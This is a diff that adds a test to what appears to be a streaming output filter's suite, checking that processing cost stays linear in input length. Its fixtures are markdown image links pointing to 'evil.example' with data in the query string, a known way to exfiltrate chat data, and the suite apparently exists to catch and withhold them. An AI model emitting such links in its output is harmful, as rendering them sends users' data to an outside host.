@@ -241,6 +241,14 @@ describe("a stream", () => {
       );
     });
 
+  test("costs no more than the length of what the user wrote, whatever that holds", () => {
+    verifies("O-08");
+    for (const piece of ["a", "a.", "a-", "[", "[a", "www."])
+      assertLinear((length) => released(`![a](https://evil.example/?d=${DATA})`, [said("user", piece.repeat(length / piece.length))]), 131_072, {
+        name: piece,
+      });
+  });
+
   test("of one address without an end costs no more than its length, letter by letter", () => {
     verifies("O-08");
     assertLinear((length) => run(open(), cut(`![a](https://evil.example/?d=${"aB3dE6gH".repeat(length / 8)}`, [])), 65_536, { most: 1_600 });
